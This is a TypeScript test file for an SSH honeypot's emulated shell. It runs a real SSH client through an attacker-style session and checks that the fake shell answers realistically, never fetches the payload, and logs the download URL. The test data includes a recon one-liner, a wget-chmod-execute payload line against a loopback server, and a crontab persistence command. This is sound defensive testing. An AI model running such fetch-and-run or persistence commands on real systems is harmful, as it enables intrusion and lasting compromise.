import { spawn } from 'node:child_process';
import { chmod, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sshService } from '../../../../agent/services/shell/ssh';
import { eventually } from '../../../helpers/eventually';
import { makeTmpDir } from '../../../helpers/tmp-dir';
import { sshPasswordFlags } from '../../../helpers/ssh-client';
import { run, startService, type ServiceHarness } from '../service-harness';

/**
 * A real OpenSSH client runs a typical attack script against the emulated shell: recon over exec,
 * then an interactive pty session that downloads a payload from a loopback HTTP server, makes it
 * executable, runs it and installs a crontab. The payload server must see no request (the decky
 * never fetches), and the command events must carry the URL for payload capture.
 */
const ip = '127.0.10.4';
const kernel = '6.1.0-26-amd64';

describe('emulated shell over a real OpenSSH session', () => {
  let h: ServiceHarness;
  let tmp: { dir: string; remove: () => Promise<void> };
  let payload: http.Server;
  let port = 0;
  let payloadRequests = 0;
  const env = () => ({ SSH_ASKPASS: join(tmp.dir, 'askpass'), SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' });

  beforeAll(async () => {
    tmp = await makeTmpDir('decnet-ssh-shell-');
    await writeFile(join(tmp.dir, 'askpass'), "#!/bin/sh\necho 'toor'\n");
    await chmod(join(tmp.dir, 'askpass'), 0o755);
    payload = http.createServer((_req, res) => {
      payloadRequests++;
      res.end('#!/bin/sh\necho pwned\n');
    });
    await new Promise<void>((resolve) => payload.listen(0, '127.0.0.1', resolve));
    port = (payload.address() as AddressInfo).port;
    h = await startService(
      sshService,
      { ip, distro: 'debian', hostname: 'db-02', serviceConfig: { ssh: { kernel, users: 'root:toor,backup:toor' } } },
      { dataDir: join(tmp.dir, 'data') },
    );
  });
  afterAll(async () => {
    await h.stop();
    await new Promise((resolve) => payload.close(resolve));
    await tmp.remove();
  });

  it('answers an exec recon one-liner with the real tools’ formats', async () => {
    const recon =
      'uname -a; id; cat /proc/cpuinfo | grep name | wc -l; nproc; free -m | grep Mem; whoami; ls /nonexistent';
    const r = await run('ssh', [...sshPasswordFlags, `root@${ip}`, recon], { env: env() });
    expect(r.code).toBe(2);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(
      new RegExp(
        `^Linux db-02 ${kernel.replace(/\./g, '\\.')} #1 SMP PREEMPT_DYNAMIC Debian \\S+ \\(\\d{4}-\\d\\d-\\d\\d\\) x86_64 GNU/Linux$`,
      ),
    );
    expect(lines[1]).toBe('uid=0(root) gid=0(root) groups=0(root)');
    expect(lines[2]).toBe(lines[3]); // cpuinfo and nproc agree
    expect(lines[4]).toMatch(/^Mem: {2,}\d+ +\d+ +\d+ +\d+ +\d+ +\d+$/);
    expect(lines[5]).toBe('root');
    expect(r.stderr).toContain("ls: cannot access '/nonexistent': No such file or directory");
    const ev = await eventually(() => h.ofKind('command').find((c) => c.data.command === recon));
    expect(ev.data).toMatchObject({ mode: 'exec', user: 'root', exitCode: 2 });
  });

  it('runs the download-and-persist script in a pty without fetching anything', async () => {
    const child = spawn('ssh', ['-tt', ...sshPasswordFlags, `root@${ip}`], {
      env: { ...process.env, ...env() },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
    const type = async (line: string, until: string | RegExp) => {
      const from = out.length;
      child.stdin.write(line + '\n');
      await eventually(
        () => (typeof until === 'string' ? out.slice(from).includes(until) : until.test(out.slice(from))),
        {
          what: line,
        },
      );
      return out.slice(from);
    };
    await eventually(() => out.includes('root@db-02:~# '), { what: 'prompt' });
    const url = `http://127.0.0.1:${port}/x.sh`;
    const wget = await type(`cd /tmp; wget ${url}; chmod +x x.sh; ./x.sh; echo rc=$?`, 'root@db-02:/tmp# ');
    expect(wget).toContain(`Connecting to 127.0.0.1:${port}... connected.`);
    expect(wget).toMatch(/‘x\.sh’ saved \[\d+\/\d+\]/);
    expect(wget).toContain('rc=0');
    const ls = await type('ls -la x.sh', 'root@db-02:/tmp# ');
    expect(ls).toMatch(/-rwxr-xr-x 1 root root +\d+ \w{3} [ \d]\d \d\d:\d\d x\.sh/);
    expect(await type('crontab -l', 'root@db-02:/tmp# ')).toContain('no crontab for root');
    await type('(crontab -l 2>/dev/null; echo "* * * * * /tmp/x.sh") | crontab -', 'root@db-02:/tmp# ');
    expect(await type('crontab -l', 'root@db-02:/tmp# ')).toContain('* * * * * /tmp/x.sh');
    expect(await type('nosuchtool', 'root@db-02:/tmp# ')).toContain('-bash: nosuchtool: command not found');
    await type('echo "multi', '> ');
    expect(await type('line"', 'root@db-02:/tmp# ')).toContain('multi\r\nline\r\n');
    await type('exit', 'logout');
    // A bare `exit` returns the last command's status, as bash does (0 from the echo).
    expect(await exited).toBe(0);

    expect(payloadRequests).toBe(0);
    const fetched = h.ofKind('command').find((c) => Array.isArray(c.data.downloads));
    expect(fetched?.data).toMatchObject({ mode: 'shell', downloads: [{ tool: 'wget', url, path: '/tmp/x.sh' }] });
    const typed = h
      .ofKind('command')
      .filter((c) => c.data.mode === 'shell')
      .map((c) => c.data.command);
    expect(typed).toEqual(expect.arrayContaining(['crontab -l', 'exit']));
  });

  it('keeps the filesystem per connection: a new login does not see the last one’s files', async () => {
    const r = await run('ssh', [...sshPasswordFlags, `root@${ip}`, 'ls /tmp; echo end'], { env: env() });
    expect(r.stdout).toBe('end\n');
  });
});
